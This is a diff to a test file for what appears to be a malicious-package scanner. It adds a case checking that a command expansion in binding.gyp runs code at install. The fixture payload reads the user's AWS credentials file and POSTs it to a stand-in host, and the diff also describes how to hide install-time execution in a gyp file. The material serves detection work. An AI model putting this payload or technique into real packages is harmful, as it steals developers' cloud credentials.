@@ -14,6 +14,7 @@ import { wiper } from '../../src/detectors/wiper/index.js';
 import type { PackageDetector } from '../../src/detectors/types.js';
 import { analyzeJavaScript, assessObfuscation } from '../../src/analysis/javascript/index.js';
 import { fileBehaviour } from '../../src/analysis/behaviour/model.js';
+import { installScripts } from '../../src/analysis/lifecycle.js';
 import { levelForScore, scoreFindings } from '../../src/report/levels.js';
 import { factsFromFixture, type FixtureFile } from '../support/package-fixture.js';
 
@@ -462,6 +463,16 @@ describe("Bun's and Deno's own APIs, and TypeScript run as it is", () => {
     const r = scan({ 'index.ts': stealer }, { main: 'index.ts', module: 'index.ts' });
     expect(r.ids).toContain('exfiltration/flow');
     expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('a file binding.gyp has node-gyp run (`<!(node index.js)`) runs at install; the include-path expansions start nothing (Miasma variant)', () => {
+    const gyp = (expansion: string) => `{ "targets": [{ "target_name": "addon", "sources": ["addon.cc"], "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"], "defines": ["<!(${expansion})"] }] }`;
+    const payload = `const fs = require('fs'), os = require('os');\nconst creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');\nrequire('https').request({ hostname: 'models.example-llm.net', path: '/t', method: 'POST' }).end(creds);\nconsole.log('HAVE_X=1');\n`;
+    const r = scan({ 'binding.gyp': gyp('node index.js --defines'), 'index.js': payload, 'addon.cc': '// addon\n' }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.detector === 'exfiltration')?.evidence).toMatchObject({ file: 'index.js', reach: 'install' });
+    const facts = (expansion: string) => factsFromFixture({ name: 'addon', publisher: { name: 'someone', email: 'someone@example.com' }, versions: [{ version: '1.0.0', publishedAt: '2025-10-01T00:00:00.000Z', manifest: { main: 'index.js' }, files: { 'binding.gyp': gyp(expansion), 'index.js': payload } }] });
+    expect(installScripts(facts('node index.js --defines'))?.map((s) => [s.command, s.from ?? ''])).toEqual([['node-gyp rebuild', ''], ['node index.js --defines', 'binding.gyp']]);
+    expect(installScripts(facts('node -p "process.arch"'))?.map((s) => s.command)).toEqual(['node-gyp rebuild']);
   });
 
   it('a file an install hook runs with bun or deno runs at install, TypeScript included (Shai-Hulud 2.0 ran its payload with bun)', () => {
